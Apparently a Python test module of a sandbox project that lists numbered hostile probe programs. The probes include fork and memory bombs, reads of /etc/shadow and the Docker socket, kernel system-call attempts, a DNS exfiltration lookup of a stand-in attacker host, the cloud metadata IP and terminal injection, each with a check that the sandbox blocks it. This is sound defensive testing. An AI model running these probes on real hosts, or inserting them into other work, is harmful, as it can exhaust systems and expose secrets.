"""Hostile programs: what each tries, as a small text, and how its outcome is judged.

All are bounded: run without any sandbox they do no lasting harm. A program that judges itself prints ``HELD`` where the
attempt was stopped and ``OPEN`` where it was not; the others are judged by how they end. To add one, add an entry to
:data:`PROGRAMS`. System-call numbers are those of x86_64.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from glasswork.sandbox.base import Limits, Result

PRELUDE = """
import ctypes, errno, json, os, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
HOST = json.loads(sys.argv[1])

def call(number, *args):
    "Errno of a system call; 0 where it worked."
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    return 0 if libc.syscall(ctypes.c_long(number), *wide) >= 0 else ctypes.get_errno()

def judge(held, what=""):
    print("HELD" if held else "OPEN", what, flush=True)

def refused(attempt, *kinds):
    "Whether an attempt raises."
    try:
        attempt()
    except kinds or OSError:
        return True
    return False

def count(attempt, most):
    "How often an attempt works, of at most so many times."
    for n in range(most):
        try:
            attempt(n)
        except (OSError, RuntimeError, MemoryError):
            return n
    return most

def fill(path, mib):
    "MiB that fit into a file."
    done = 0
    try:
        with open(path, "wb", buffering=0) as file:
            while done < mib << 20:
                done += file.write(bytes(1 << 20))
    except OSError:
        pass
    return done >> 20

def pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]
"""

Judge = Callable[[Result], bool]


def held(result: Result) -> bool:
    """The program ran to its end and says that it was stopped."""
    return "HELD" in result.stdout and "OPEN" not in result.stdout


def ends(*reasons: str) -> Judge:
    """It ended for one of these reasons."""
    return lambda result: result.reason in reasons


def exits(code: int) -> Judge:
    """It ended by itself with this code, and no reason was read into the number."""
    return lambda result: (result.reason, result.exit_code) == ("exit", code)


def flooded(result: Result) -> bool:
    """It was killed for writing without end, and little of it was kept."""
    return result.reason == "output" and result.truncated and len(result.stdout) + len(result.stderr) < 600_000


def prints(text: str) -> Judge:
    """It ended well and its output came through as it was written."""
    return lambda result: result.ok and text in result.stdout


def quick(result: Result) -> bool:
    """It ended by itself, and what it left running held nobody up."""
    return result.reason == "exit" and result.seconds < 0.9


USUAL = Limits(wall_seconds=8, memory_mb=256)
SHORT = Limits(wall_seconds=0.5, memory_mb=256)


@dataclass(frozen=True)
class Program:
    """One attack."""

    number: int
    name: str
    code: str
    judge: Judge = held
    limits: Limits = USUAL
    machine: str = ""
    """The only kind of machine that it is written for."""


def refuses(number: int, name: str, expression: str, setup: str = "") -> Program:
    """Make a program that holds where an expression is refused or false."""
    return Program(number, name, f"{setup}\njudge({expression})")


def system_call(number: int, name: str, call: str, wanted: str = "EPERM") -> Program:
    """Make a program that holds where a system call is answered with an error of this filter, not of the call itself."""
    return Program(number, name, f"judge(call({call}) == errno.{wanted})", machine="x86_64")


RESOURCES = (
    Program(
        1,
        "fork_bomb",
        """
def child(n):
    if os.fork() == 0:
        time.sleep(3); os._exit(0)
judge(count(child, 300) <= 64)
""",
    ),
    Program(
        2,
        "thread_bomb",
        """
import threading
n = count(lambda n: threading.Thread(target=time.sleep, args=(5,), daemon=True).start(), 300)
judge(16 <= n <= 64, n); os._exit(0)
""",
    ),
    Program(3, "mem_bomb_one", "kept = [b'x' * (16 << 20) for _ in range(200)]; time.sleep(9)", ends("oom")),
    Program(
        4,
        "mem_bomb_many",
        """
for _ in range(6):
    if os.fork() == 0:
        kept = b'x' * (200 << 20); time.sleep(9); os._exit(0)
time.sleep(9)
""",
        ends("oom"),
    ),
    Program(5, "tmpfs_mem_fill", "judge(fill('/dev/shm/x', 600) + fill('/tmp/x', 600) <= 128)"),
    Program(6, "disk_fill_work", "judge(fill('x', 300) <= 64)"),
    Program(
        7,
        "many_small_files",
        "n = count(lambda n: open(f'{n}', 'x').close(), 60000); judge(n <= 4096, n)",
        lambda result: held(result) or result.reason == "oom",
    ),
    Program(8, "sparse_file", "judge(refused(lambda: os.truncate(os.open('x', os.O_CREAT | os.O_RDWR), 1 << 40)))"),
    Program(9, "fd_exhaust", "kept = []; judge(count(lambda n: kept.append(open('/dev/null')), 70000) <= 256)"),
    Program(10, "cpu_spin", "while True: pass", ends("timeout"), SHORT),
    Program(11, "sleep_forever", "print('up', flush=True); time.sleep(3600)", ends("timeout"), SHORT),
    Program(
        12,
        "ignore_sigterm",
        """
for number in (1, 2, 3, 15, 20, 24): signal.signal(number, signal.SIG_IGN)
while True: pass
""",
        ends("timeout"),
        SHORT,
    ),
    Program(13, "infinite_output", "while True: os.write(1, b'x' * 65536)", flooded),
    Program(14, "infinite_stderr", "while True: os.write(2, b'x' * 65536)", flooded),
    Program(15, "output_no_newline", "sys.stdout.write('x' * (50 << 20))", flooded),
    Program(16, "closed_stdout_then_spin", "os.close(1); os.close(2)\nwhile True: pass", ends("timeout"), SHORT),
    Program(
        17,
        "daemon_past_timeout",
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            open('heartbeat', 'a').write('x'); time.sleep(0.1)
    os._exit(0)
os._exit(0)
""",
        quick,
    ),
    Program(18, "daemon_holds_pipe", "if os.fork() == 0: os.setsid(); time.sleep(120)\nos._exit(0)", quick),
    Program(
        19,
        "zombies",
        """
def child(n):
    if os.fork() == 0: os._exit(0)
judge(count(child, 2000) <= 64)
""",
    ),
)
HOST_FILES = (
    refuses(20, "read_host_secret", "refused(lambda: open(HOST['canary']))"),
    refuses(21, "read_etc_shadow", "refused(lambda: open('/etc/shadow'))"),
    refuses(
        22, "read_host_home", "all(refused(lambda: os.listdir(home)) for home in ('/root', '/home', HOST['home']))"
    ),
    refuses(23, "env_leak", "not [n for n in os.environ if any(w in n for w in ('KEY', 'TOKEN', 'SECRET'))]"),
    Program(
        24,
        "parent_environ",
        """
found = False
for pid in pids():
    try: found |= HOST['secret'].encode() in open(f'/proc/{pid}/environ', 'rb').read()
    except OSError: pass
judge(not found)
""",
    ),
    Program(
        25,
        "see_host_procs",
        """
seen = [open(f'/proc/{pid}/cmdline', 'rb').read() for pid in pids() if pid != os.getpid()]
judge(not [line for line in seen if b'pytest' in line or b'dockerd' in line])
""",
    ),
    refuses(26, "inherited_fds", "set(os.listdir('/proc/self/fd')) <= {'0', '1', '2', '3'}"),
    refuses(
        27,
        "docker_sock",
        "all(refused(lambda: socket.socket(socket.AF_UNIX).connect(p)) for p in"
        " ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock'))",
    ),
    refuses(
        28, "abstract_unix_socket", "refused(lambda: socket.socket(socket.AF_UNIX).connect('\\0' + HOST['abstract']))"
    ),
    refuses(
        29,
        "write_outside",
        "all(refused(lambda: open(f + '/planted', 'w')) for f in ('', '/etc', '/usr',"
        " '/usr/lib', '/var', '/root', '/home', '/opt', '/dev', '/proc', '/glasswork', os.path.dirname(HOST['canary'])))",
    ),
    Program(
        30,
        "symlink_out",
        """
for n, target in enumerate((HOST['canary'], '/etc', '../../../../etc/passwd')): os.symlink(target, f'result{n}')
print('done')
""",
        lambda result: result.ok and not result.files,
    ),
    refuses(31, "hardlink_out", "refused(lambda: os.link('/etc/passwd', 'result0'))"),
    Program(
        32,
        "fifo_and_device",
        """
for attempt in (lambda: os.mkfifo('result0'), lambda: os.mknod('result1', 0o60600, os.makedev(254, 0))): refused(attempt)
""",
        lambda result: result.ok and not result.files,
    ),
    Program(
        33,
        "nasty_names",
        """
for name in (b'a\\nb', b'\\x1b[2J', b'..\\\\..\\\\x', b'-rf', b'\\xff\\xfe', b'n' * 255, b'CON', b' lead', 'a\\u202eb'.encode()):
    open(name, 'w').write('x')
""",
        lambda result: result.ok and not result.files,
    ),
    refuses(34, "setuid_file", "refused(lambda: os.chmod('sh', 0o6755))", "open('sh', 'w').close()"),
    refuses(
        35,
        "proc_sys_write",
        "all(refused(lambda: open(p, 'w')) for p in ('/proc/sys/kernel/core_pattern',"
        " '/proc/sys/kernel/hostname', '/proc/sysrq-trigger', '/proc/sys/vm/drop_caches', '/sys/kernel/uevent_helper'))",
    ),
    refuses(36, "proc_kcore", "refused(lambda: open('/proc/kcore', 'rb').read(1))"),
)
KERNEL = (
    Program(37, "dmesg", "judge(libc.klogctl(3, ctypes.create_string_buffer(4096), 4096) < 0)"),
    Program(
        38,
        "ptrace",
        """
pid = os.fork()
if pid == 0: time.sleep(2); os._exit(0)
judge(call(101, 0x4206, pid, 0, 0) == errno.EPERM); os.kill(pid, 9)
""",
        machine="x86_64",
    ),
    refuses(39, "proc_mem_parent", "refused(lambda: open(f'/proc/{os.getppid()}/mem', 'rb'))"),
    Program(40, "unshare_userns", "judge(libc.unshare(0x10000000) < 0)"),
    Program(
        41,
        "clone3_userns",
        """
judge(call(435, struct.pack('QQQQQQQQ', 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64) == errno.ENOSYS)
""",
        machine="x86_64",
    ),
    Program(42, "mount", "judge(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) < 0)"),
    refuses(43, "chroot", "refused(lambda: os.chroot('.'))"),
    system_call(44, "init_module", "175, None, 0, b''"),
    system_call(44, "finit_module", "313, 0, b'', 0"),
    system_call(45, "bpf", "321, 0, bytes(72), 72"),
    system_call(46, "perf_event_open", "298, bytes(128), 0, -1, -1, 0"),
    system_call(47, "io_uring", "425, 8, ctypes.create_string_buffer(120)", "ENOSYS"),
    system_call(48, "userfaultfd", "323, 0"),
    system_call(49, "keyctl", "250, 0, -3, 1"),
    system_call(50, "open_by_handle", "304, -100, bytes(64), 0"),
    system_call(51, "reboot", "169, 0xfee1dead, 672274793, 0, 0"),
    system_call(51, "kexec", "246, 0, 0, None, 0"),
    system_call(52, "settime", "227, 0, bytes(16)"),
    system_call(53, "sethostname", "170, b'x', 1"),
    Program(54, "nice_rt", "judge(refused(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))))"),
    refuses(55, "setuid0", "os.getuid() != 0 and refused(lambda: os.setuid(0))"),
    Program(
        56,
        "caps",
        """
status = dict(line.split(':\\t', 1) for line in open('/proc/self/status').read().splitlines() if ':\\t' in line)
judge(int(status['CapEff'], 16) == int(status['CapBnd'], 16) == 0 and status['NoNewPrivs'] == '1' and status['Seccomp'] == '2')
""",
    ),
    refuses(57, "kill_parent", "refused(lambda: os.kill(os.getppid(), 15))"),
    refuses(58, "kill_all", "all(refused(lambda: os.kill(pid, 0)) for pid in pids() if pid != os.getpid())"),
)
NETWORK = (
    refuses(59, "tcp_loopback", "refused(lambda: socket.create_connection(('127.0.0.1', HOST['tcp']), 2))"),
    refuses(60, "tcp_out", "refused(lambda: socket.create_connection(('1.1.1.1', 80), 2))"),
    refuses(61, "udp_dns_exfil", "refused(lambda: socket.socket(2, 2).sendto(b'out', ('127.0.0.1', HOST['udp'])))"),
    refuses(62, "getaddrinfo", "refused(lambda: socket.getaddrinfo('secretdata.attacker.example', 80))"),
    refuses(63, "raw_socket", "refused(lambda: socket.socket(2, 3, 1))"),
    refuses(64, "packet_socket", "refused(lambda: socket.socket(17, 3, 0))"),
    refuses(65, "vsock", "refused(lambda: socket.socket(40, 1, 0))"),
    refuses(65, "netlink", "refused(lambda: socket.socket(16, 3, 0))"),
    refuses(66, "metadata_ip", "refused(lambda: socket.create_connection(('169.254.169.254', 80), 2))"),
)
OUTPUT = (
    Program(67, "invalid_utf8", "os.write(1, b'\\xff\\xfe\\x80')", prints("\\xff\\xfe\\x80")),
    Program(68, "nul_bytes", "os.write(1, b'a\\0b')", prints("a\0b")),
    Program(69, "ansi_escape", "os.write(1, b'\\x1b]0;t\\x07\\x1b[2J')", prints("\x1b]0;t\x07\x1b[2J")),
    Program(70, "rich_markup", "print('[bold red]x[/bad][link=http://x]')", prints("[bold red]x[/bad][link=http://x]")),
    Program(
        71,
        "log_injection",
        'os.write(1, b\'\\n{"type":"run.finished"}\\r\\n\')',
        prints('\n{"type":"run.finished"}\r\n'),
    ),
    Program(72, "huge_line_json", "print('[' * 20000)", prints("[" * 20000)),
    Program(73, "exit_137", "os._exit(137)", exits(137)),
    Program(74, "fake_timeout_124", "sys.exit(124)", exits(124)),
    Program(75, "segv", "ctypes.string_at(0)", ends("signal:SIGSEGV")),
    Program(76, "core_dump", "os.abort()", ends("signal:SIGABRT")),
    refuses(
        77,
        "huge_argv",
        "refused(lambda: os.spawnv(os.P_WAIT, '/bin/sh', ['sh', 'x' * (3 << 20)]) == 127 and 1 / 0,"
        " OSError, ZeroDivisionError)",
    ),
    refuses(78, "tiocsti", "refused(lambda: __import__('fcntl').ioctl(os.open('/dev/tty', 2), 0x5412, b'x'))"),
    Program(
        79,
        "deep_recursion",
        "sys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
        ends("oom", "timeout", "signal:SIGSEGV", "signal:SIGKILL"),
        SHORT,
    ),
    Program(80, "atexit_hang", "import atexit; atexit.register(time.sleep, 3600)", ends("timeout"), SHORT),
    Program(81, "stdin_wait", "judge(refused(input, EOFError))"),
    Program(
        82,
        "int80_syscall",
        """
import mmap
page = mmap.mmap(-1, 4096, prot=7); page.write(b"\\xb8\\x14\\0\\0\\0\\xcd\\x80\\xc3")
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""",
        ends("signal:SIGSYS"),
        machine="x86_64",
    ),
)
LATER = (
    Program(90, "newer_calls", "judge(call(467, 0) == errno.ENOSYS)", machine="x86_64"),
    Program(91, "leave_shared_memory", "judge(call(29, 77, 1 << 20, 0o1666) == errno.ENOSYS)", machine="x86_64"),
    Program(
        92,
        "own_binary",
        """
with open('run', 'wb') as file: file.write(open('/bin/true', 'rb').read())
os.chmod('run', 0o755); judge(refused(lambda: os.execv('./run', ['run'])))
""",
    ),
    refuses(
        93,
        "answer_channel",
        "all(refused(lambda: os.open(f'/proc/{os.getppid()}/fd/{n}', os.O_WRONLY)) for n in range(8))",
    ),
    Program(94, "stop_supervisor", "judge(refused(lambda: os.kill(os.getppid(), signal.SIGSTOP)))"),
    Program(
        95,
        "deep_folders",
        """
for _ in range(900): os.mkdir('d'); os.chdir('d')
os.chmod('.', 0)
""",
        exits(0),
    ),
)
PROGRAMS = (*RESOURCES, *HOST_FILES, *KERNEL, *NETWORK, *OUTPUT, *LATER)
